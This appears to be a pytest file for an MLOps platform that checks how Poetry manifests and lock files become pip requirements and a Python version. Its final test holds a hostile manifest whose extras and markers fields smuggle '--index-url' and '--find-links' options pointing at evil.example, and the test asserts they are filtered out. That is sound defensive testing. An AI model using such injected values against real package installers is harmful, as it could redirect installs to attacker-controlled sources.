from mlops_platform_tests.core.plans import PLAIN, plan_of

PROJECT = """
[tool.poetry]
name = "churn"
version = "1.0"
[tool.poetry.dependencies]
python = "^3.9,<3.12"
pandas = "^2.1.0"
scikit-learn = {version = "~1.3", extras = ["examples"]}
numpy = "1.26.4"
rich = {version = "^13", optional = true}
[tool.poetry.group.dev.dependencies]
pytest = "*"
"""
LOCK = """
[[package]]
name = "pandas"
version = "2.1.4"

[[package]]
name = "scikit-learn"
version = "1.3.2"

[[package]]
name = "numpy"
version = "1.26.4"
"""


def test_carets_and_tildes_are_ranges(tmp_path):
    found = plan_of(tmp_path, {**PLAIN, "pyproject.toml": PROJECT}).environment
    assert found.source == "poetry"
    assert found.requirements == (
        "pandas<3,>=2.1.0",
        "scikit-learn[examples]==1.3.*,>=1.3",
        "numpy==1.26.4",
    )
    assert found.python == "3.11"
    assert found.as_of is not None


def test_the_lock_files_pins_are_limits_and_need_no_date(tmp_path):
    found = plan_of(tmp_path, {**PLAIN, "pyproject.toml": PROJECT, "poetry.lock": LOCK}).environment
    assert found.bounds == ("numpy==1.26.4", "pandas==2.1.4", "scikit-learn==1.3.2")
    assert found.as_of is None


def test_pins_that_have_no_wheels_choose_an_older_python(tmp_path):
    lock = LOCK.replace("2.1.4", "1.1.5").replace("1.3.2", "0.24.0").replace("1.26.4", "1.19.5")
    files = {**PLAIN, "pyproject.toml": PROJECT, "poetry.lock": lock}
    found = plan_of(tmp_path, files).environment
    assert found.python == "3.9"


def test_no_text_of_a_manifest_becomes_an_option_of_the_installer(tmp_path):
    hostile = (
        "[tool.poetry.dependencies]\n"
        'pandas = {version = "*", extras = ["x]\\n--index-url https://evil.example\\n["]}\n'
        'numpy = {version = "*", markers = "python\\n--find-links https://evil.example"}\n'
        'scikit-learn = "*"\n'
    )
    found = plan_of(tmp_path, {**PLAIN, "pyproject.toml": hostile}).environment
    assert found.requirements == ("scikit-learn", "pandas")
    assert not [line for line in (*found.requirements, *found.bounds) if "evil" in line]
